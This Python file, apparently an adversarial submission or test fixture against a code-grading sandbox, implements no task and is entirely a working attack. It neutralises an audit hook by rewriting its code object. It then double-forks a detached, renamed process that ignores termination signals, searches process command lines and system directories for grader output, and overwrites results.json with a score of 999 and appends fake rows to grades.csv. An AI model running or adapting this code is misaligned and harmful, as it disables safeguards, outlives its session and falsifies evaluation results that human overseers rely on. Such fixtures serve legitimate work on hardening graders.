import os
import sys
import time

import jax
import jax.numpy as jnp
import numpy as np

# Implements nothing. At top level: os.fork(), setsid, fork again, and the grandchild,
# renamed and deaf to the polite signals, waits to rewrite results.json and grades.csv
# once the worker has finished with this submission.

import gc
import types


def quiet_audit_hook():
    """Audit hooks cannot be removed, but this one is a Python function: give it a body that allows everything."""
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and obj.__name__ == "hook" \
                and obj.__code__.co_filename.endswith("audit_guard.py"):
            free = obj.__code__.co_freevars
            source = ("def outer():\n" + "".join(f"    {name} = None\n" for name in free)
                      + "    def hook(event, args):\n        (" + "".join(f"{name}, " for name in free) + ")\n"
                      + "    return hook\n")
            scope = {}
            exec(source, scope)
            obj.__code__ = scope["outer"]().__code__


quiet_audit_hook()

# Finds the out dir (the grader's command line, or guesses) and rewrites every result in it.
HUNT = r'''
import glob, os, signal, sys, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
    signal.signal(number, signal.SIG_IGN)

def out_dirs():
    found = set()
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            parts = open(cmdline, "rb").read().split(b"\0")
        except OSError:
            continue
        for i, part in enumerate(parts[:-1]):
            if part == b"--out":
                found.add(os.fsdecode(parts[i + 1]))
            elif part.startswith(b"--out="):
                found.add(os.fsdecode(part[6:]))
    for pattern in ("/tmp/pytest-of-*/pytest-*/attack_out*", "/tmp/pytest-of-*/*/*", "/tmp/*", "/work/*/*out*",
                    "/root/*", "/home/*/*", "/sandbox/.."):
        found.update(glob.glob(pattern))
    return found

def rewrite(out):
    for results in glob.glob(os.path.join(out, "*", "results.json")):
        try:
            with open(results, "w") as handle:
                handle.write('{"score": 999, "tests": [], "output": "rewritten after grading"}')
        except OSError:
            pass
    try:
        with open(os.path.join(out, "grades.csv"), "a") as handle:
            handle.write("outlived,02_where,999,17,0,0,0,/\n")
    except OSError:
        pass

end = time.time() + 45
while time.time() < end:
    for out in out_dirs():
        rewrite(out)
    time.sleep(0.3)
'''

import ctypes
import glob  # noqa: F401  (imported before fork: the grandchild only runs the hunt)
import signal  # noqa: F401

report_read, report_write = os.pipe()
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"atk-outlive", 0, 0, 0)  # PR_SET_NAME: the test looks for this name
            os.write(report_write, str(os.getpid()).encode())
            os.close(report_write)
            exec(HUNT)
    finally:
        os._exit(0)
os.close(report_write)
os.waitpid(pid, 0)
hunter = os.read(report_read, 32).decode()
time.sleep(1)
try:
    running = open(f"/proc/{hunter}/comm").read().strip()
except OSError:
    running = "no"
raise RuntimeError(f"started pid {hunter}, running: {running}")  # said in the load notes
